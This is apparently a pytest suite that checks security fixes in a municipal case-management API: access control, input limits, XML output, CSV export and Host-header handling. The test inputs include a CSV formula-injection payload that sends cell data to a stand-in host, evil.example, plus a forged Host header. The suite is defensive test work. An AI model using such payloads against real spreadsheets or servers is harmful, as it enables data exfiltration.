"""The exact requests of issue 18 ("Security round 2"), in production mode, each answered as it
must be now: findings 1 (Open311 reads), 8 (open reads), 9 (one intake validation), 10 (XML),
11 (CSV formulas), 12 (idempotency keys per caller), 13 (the unmask purpose) and 14 (Host).
Findings 2–7 have their own files (test_xss_pages, test_audit_tamper, test_crash_inputs,
test_database_outage, test_rate_limit_identity, test_tile_cache_bounds) and 8 its whole table
(test_access_table)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree as ET
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text
from typer.testing import CliRunner

from api.app import create_app
from api.security.identity import issue_token
from gridcore.cli import app as cli
from gridcore.settings import Settings
from layers.security import audit, users
from tests.support.cases import GRID_001, GRID_002, INSIDE_001, INSIDE_002, plant, settings
from tests.support.database import row_counts

PASSWORD = "correct horse battery"
CAMERA = (116.4012, 39.9012)


@dataclass
class City:
    client: TestClient
    db: Engine
    tree: Settings
    who: dict[str, dict[str, str]] = field(default_factory=dict)
    key: str = ""

    def case(self, who: str, key: str, where: tuple[float, float] = INSIDE_001,
             category: str = "E0103", description: str = "暴露垃圾") -> int:
        r = self.client.post("/cases", headers=self.who[who], json={
            "idempotency_key": key, "category": category, "lon": where[0], "lat": where[1],
            "description": description})
        assert r.status_code in (200, 201), r.text
        return int(r.json()["id"])


def _city(db: Engine, tmp_path: Path, **security: object) -> City:
    tree = Settings(cases=settings(tmp_path))
    tree.security = tree.security.model_copy(update={"env": "production", **security})
    return City(TestClient(create_app(tree, engine=db)), db, tree)


@pytest.fixture
def city(db: Engine, tmp_path: Path) -> Iterator[City]:
    plant(db)
    with db.begin() as conn:
        conn.execute(text("INSERT INTO grid_worker (code, name, phone) VALUES "
                          "('W1', '王五', '13800000001'), ('W2', '赵六', '13800000002')"))
        conn.execute(text(
            "INSERT INTO governance_entity (code, area, type, name, grid_code, sensitivity, "
            "attributes, restricted_attributes, geom) VALUES ('E-1', 'P01', 'resident', '住户',"
            " :g, 'internal', '{}', '{\"phone\": \"13912345678\"}', "
            "ST_SetSRID(ST_MakePoint(116.4021, 39.9021), 4326))"), {"g": GRID_001})
    made = _city(db, tmp_path)
    for name, role, areas, dept in (("w1", "grid_worker", (GRID_001,), None),
                                    ("w2", "grid_worker", (GRID_002,), None),
                                    ("desk", "dispatcher", (), None),
                                    ("handler", "department_handler", (), "D_GRID"),
                                    ("analyst", "analyst", (), None)):
        users.add_user(db, name, PASSWORD, role, department=dept, areas=areas)
        made.who[name] = {"Authorization": "Bearer "
                          + issue_token(made.tree.security, name, role)[0]}
    made.key = users.add_key(db, "citizen-app", "open311")
    with made.client:
        yield made


def _open311_post(city: City, api_key: str | None = None, **fields: str) -> object:
    form = {"service_code": "E0103", "lat": str(INSIDE_001[1]), "long": str(INSIDE_001[0]),
            "description": "路面有油污", **fields}
    return city.client.post("/open311/v2/requests.json",
                            data={**form, "api_key": api_key or city.key})


# -- 1: Open311 reads -------------------------------------------------------------------------
def test_open311_reads_need_a_key_and_see_its_own_cases(city: City) -> None:
    theirs = city.case("desk", "desk-1")
    anonymous = city.client.get("/open311/v2/requests.json")
    assert anonymous.status_code == 403 and "service_request_id" not in anonymous.text
    assert city.client.get(f"/open311/v2/requests/{theirs}.json").status_code == 403
    ids = ",".join(str(i) for i in range(1, 3001))
    too_many = city.client.get("/open311/v2/requests.json",
                               params={"service_request_id": ids, "api_key": city.key})
    assert too_many.status_code == 400 and "at most 100" in too_many.json()[0]["description"]
    own = int(_open311_post(city).json()[0]["service_request_id"])  # type: ignore[attr-defined]
    listed = city.client.get("/open311/v2/requests.json", params={"api_key": city.key}).json()
    assert [int(r["service_request_id"]) for r in listed] == [own]
    assert city.client.get(f"/open311/v2/requests/{theirs}.json",
                           params={"api_key": city.key}).status_code == 404
    paged = city.client.get("/open311/v2/requests.json",
                            params={"api_key": city.key, "limit": 5000})
    assert paged.status_code == 400  # one page is at most 1,000, as GET /cases


@pytest.mark.parametrize("env", ["production", "development"])
def test_the_public_feed_is_a_choice_without_sensitive_classes(db: Engine, tmp_path: Path,
                                                                env: str) -> None:
    # in development an anonymous call is the X-Role stand-in (an admin): the feed, which
    # refuses the stand-in, must still answer it as the public, not as that admin
    plant(db)
    tree = Settings(cases=settings(tmp_path, open311_public_feed=True,
                                   open311_public_precision_m=500))
    tree.security = tree.security.model_copy(update={"env": env})
    users.add_user(db, "desk", PASSWORD, "dispatcher")
    desk = {"Authorization": "Bearer " + issue_token(tree.security, "desk", "dispatcher")[0]}
    with TestClient(create_app(tree, engine=db)) as client:
        for key, category, where in (("p-1", "E0103", INSIDE_001), ("p-2", "P0601", CAMERA)):
            assert client.post("/cases", headers=desk, json={
                "idempotency_key": key, "category": category, "lon": where[0],
                "lat": where[1], "reporter": "李四 13900000000"}).status_code == 201
        feed = client.get("/open311/v2/requests.json")
        assert feed.status_code == 200
        items = feed.json()
        assert [i["service_code"] for i in items] == ["E0103"]  # the camera is sensitive
        assert "李四" not in feed.text and "13900000000" not in feed.text
        assert (items[0]["lat"], items[0]["long"]) != (INSIDE_001[1], INSIDE_001[0])
        assert abs(items[0]["lat"] - INSIDE_001[1]) < 0.005  # the block, not the doorstep
        camera = client.get("/open311/v2/requests/2.json")
        assert camera.status_code == 404


# -- 8: the reads the issue found open ----------------------------------------------------------
def test_the_open_reads_of_the_issue_are_closed(city: City) -> None:
    case = city.case("w1", "w1-1")
    for path in ("/map/search?q=1", f"/map/cases/{case}/actions?role=admin",
                 "/collections/entities/items", "/health/rankings", "/health/choropleth",
                 "/layers", f"/resolve?lon={INSIDE_001[0]}&lat={INSIDE_001[1]}",
                 f"/map/grids/{GRID_001}"):
        assert city.client.get(path).status_code == 401, path
    assert city.client.get("/collections/entities/items",
                           headers=city.who["handler"]).status_code == 403
    panel = city.client.get(f"/map/grids/{GRID_001}", headers=city.who["w2"])
    assert panel.status_code == 200 and "13800000001" not in panel.text
    assert "王五" not in panel.text
    assert "13800000001" in city.client.get(f"/map/grids/{GRID_001}",
                                            headers=city.who["w1"]).text


# -- 9, 10: one validation, XML 1.0 ---------------------------------------------------------------
def test_open311_posts_get_the_limits_of_post_cases(city: City) -> None:
    before = row_counts(city.db)
    long = _open311_post(city, description="x" * 1_000_000)  # the issue's request
    assert long.status_code == 400 and "at most 4000" in long.json()[0]["description"]  # type: ignore[attr-defined]
    huge = _open311_post(city, description="长" * 1_000_000)  # 3 MB: beyond a form field
    assert huge.status_code == 400 and "1024KB" in huge.json()[0]["description"]  # type: ignore[attr-defined]
    control = _open311_post(city, description="a\x01b")
    assert control.status_code == 400 and "U+0001" in control.json()[0]["description"]  # type: ignore[attr-defined]
    json_control = city.client.post("/cases", headers=city.who["w1"], json={
        "idempotency_key": "ctl", "category": "E0103", "lon": INSIDE_001[0],
        "lat": INSIDE_001[1], "description": "a\x01b"})
    assert json_control.status_code == 422 and json_control.json()["field"] == "description"
    assert row_counts(city.db) == before


def test_requests_xml_stays_well_formed(city: City) -> None:
    own = int(_open311_post(city).json()[0]["service_request_id"])  # type: ignore[attr-defined]
    with city.db.begin() as conn:  # a description stored before intake refused them
        conn.execute(text("ALTER TABLE case_record DISABLE TRIGGER USER"))
        conn.execute(text("UPDATE case_record SET description = 'bad' || chr(1) || 'char' "
                          "WHERE id = :i"), {"i": own})
        conn.execute(text("ALTER TABLE case_record ENABLE TRIGGER USER"))
    xml = city.client.get("/open311/v2/requests.xml", params={"api_key": city.key})
    assert xml.status_code == 200
    root = ET.fromstring(xml.content)  # raises on an ill-formed document
    assert root.find("request/description").text == "bad\ufffdchar"  # type: ignore[union-attr]


# -- 11: CSV formulas
def test_csv_exports_carry_no_formulas(city: City, cli_env: dict[str, str],
                                       tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
    city.case("w1", "csv-1", description=formula)
    exported = city.client.get("/cases?format=csv", headers=city.who["analyst"])
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["description"] == "'" + formula
    with city.db.begin() as conn:
        conn.execute(text("UPDATE governance_entity SET name = '@SUM(1+1)*cmd' "
                          "WHERE code = 'E-1'"))
    out = tmp_path / "entities.csv"
    result = CliRunner().invoke(cli, ["export", "entities", "-o", str(out)], env=cli_env)
    assert result.exit_code == 0, result.output
    assert "'@SUM(1+1)*cmd" in out.read_text() and ",@SUM" not in out.read_text()


# -- 12: idempotency keys are the caller's
def test_another_callers_key_gets_no_case(city: City) -> None:
    theirs = city.case("desk", "shared-key", INSIDE_002)  # in grid 002, outside w1's areas
    for description in ("暴露垃圾", "something else"):  # the same payload, or another
        replay = city.client.post("/cases", headers=city.who["w1"], json={
            "idempotency_key": "shared-key", "category": "E0103", "lon": INSIDE_002[0],
            "lat": INSIDE_002[1], "description": description})
        assert replay.status_code == 409, replay.text
        assert str(theirs) not in replay.text and "C0000" not in replay.text
    again = city.client.post("/cases", headers=city.who["desk"], json={
        "idempotency_key": "shared-key", "category": "E0103", "lon": INSIDE_002[0],
        "lat": INSIDE_002[1], "description": "暴露垃圾"})
    assert again.status_code == 200 and again.json()["id"] == theirs  # its own resend


# -- 13: the unmask purpose
@pytest.mark.parametrize("purpose", ["\u200b" * 5, " \u3000\u200d\u2060 ", "....", "a b"])
def test_an_invisible_purpose_is_no_purpose(city: City, purpose: str) -> None:
    r = city.client.get("/entities/E-1", params={"unmask": "true", "purpose": purpose},
                        headers=city.who["w1"])
    assert r.status_code == 422 and r.json()["field"] == "purpose"
    assert not any(row["action"] == "entity.unmask" for row in audit.recent(city.db))


def test_a_real_purpose_is_audited_normalised(city: City) -> None:
    r = city.client.get("/entities/E-1", headers=city.who["w1"],
                        params={"unmask": "true", "purpose": " 入户\u200b走访 "})
    assert r.status_code == 200 and r.json()["restricted_attributes"]["phone"] == "13912345678"
    row = next(r for r in audit.recent(city.db) if r["action"] == "entity.unmask")
    assert row["details"]["purpose"] == "入户走访"


# -- 14: the Host header
def test_a_made_up_host_is_never_written_back(city: City) -> None:
    evil = {"Host": "evil.example"}
    landing = city.client.get("/", headers=evil)
    assert landing.status_code == 200 and "evil.example" not in landing.text
    assert landing.json()["links"][0]["href"] == "/"  # relative without GRIDCORE_PUBLIC_URL
    page = city.client.get("/health/map", headers=evil)
    assert page.status_code == 200 and "evil.example" not in page.text
    items = city.client.get("/collections/grids/items", headers={**evil, **city.who["w1"]})
    assert "evil.example" not in items.text
    # the evaluation's links to each party and to the cases behind a figure
    city.case("w1", "host-eval")
    month = {"period": datetime.now(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m")}
    ranking = city.client.get("/evaluation/department", params=month,
                              headers={**evil, **city.who["desk"]})
    assert ranking.status_code == 200 and "evil.example" not in ranking.text
    hrefs = [p["href"] for p in ranking.json()["parties"]]
    assert hrefs and all(h.startswith("/evaluation/department/") for h in hrefs)
    party = city.client.get(hrefs[0], headers={**evil, **city.who["desk"]})
    assert party.status_code == 200 and "evil.example" not in party.text
    # the field app's worklist pages on with a link of its own
    city.case("w1", "host-tasks")
    tasks = city.client.get("/me/tasks", params={"limit": 1},
                            headers={**evil, **city.who["desk"]})
    assert tasks.status_code == 200 and tasks.json()["next"].startswith("/me/tasks?")
    assert "evil.example" not in tasks.text


def test_allowed_hosts_refuse_others(db: Engine, tmp_path: Path) -> None:
    plant(db)
    for update in ({"allowed_hosts": "grid.example"},
                   {"public_url": "https://grid.example"}):
        tree = Settings(cases=settings(tmp_path))
        tree.security = tree.security.model_copy(update={"env": "production"})
        tree.api = tree.api.model_copy(update=update)
        with TestClient(create_app(tree, engine=db), base_url="http://grid.example") as c:
            assert c.get("/conformance").status_code == 200
            refused = c.get("/conformance", headers={"Host": "evil.example"})
            assert refused.status_code == 400
            assert refused.headers["content-type"].startswith("application/problem+json")
            assert c.get("/healthz", headers={"Host": "127.0.0.1:8000"}).status_code == 200
            if "public_url" in update:
                links = json.loads(c.get("/").text)["links"]
                assert all(link["href"].startswith("https://grid.example/") for link in links)


# -- the probes: /readyz is anyone's, a replica's whereabouts are not (scale's replicas) -------
def test_readyz_names_no_replica_to_anyone(db: Engine, tmp_path: Path) -> None:
    plant(db)
    tree = Settings(cases=settings(tmp_path))
    tree.security = tree.security.model_copy(update={"env": "production"})
    tree.database = tree.database.model_copy(update={
        "read_database_url": "postgresql+psycopg2://gridcore_app:s3cret@127.0.0.1:9/city",
        "replica_check_interval_s": 0.1})
    users.add_user(db, "root", PASSWORD, "admin")
    users.add_user(db, "desk", PASSWORD, "dispatcher")
    with TestClient(create_app(tree, engine=db)) as client:
        anonymous = client.get("/readyz")
        assert anonymous.status_code == 200, anonymous.text
        assert [set(r) for r in anonymous.json()["replicas"]] == [{"state", "lag_s"}]
        for who, role in (("desk", "dispatcher"), (None, None)):
            headers = ({"Authorization": "Bearer " + issue_token(tree.security, who, role)[0]}
                       if who else {"Authorization": "Bearer made-up"})
            shown = client.get("/readyz", headers=headers)
            assert shown.status_code == 200 and "127.0.0.1:9/city" not in shown.text
        admin = {"Authorization": "Bearer " + issue_token(tree.security, "root", "admin")[0]}
        detailed = client.get("/readyz", headers=admin).json()["replicas"][0]
        assert detailed["name"] == "127.0.0.1:9/city" and "s3cret" not in str(detailed)
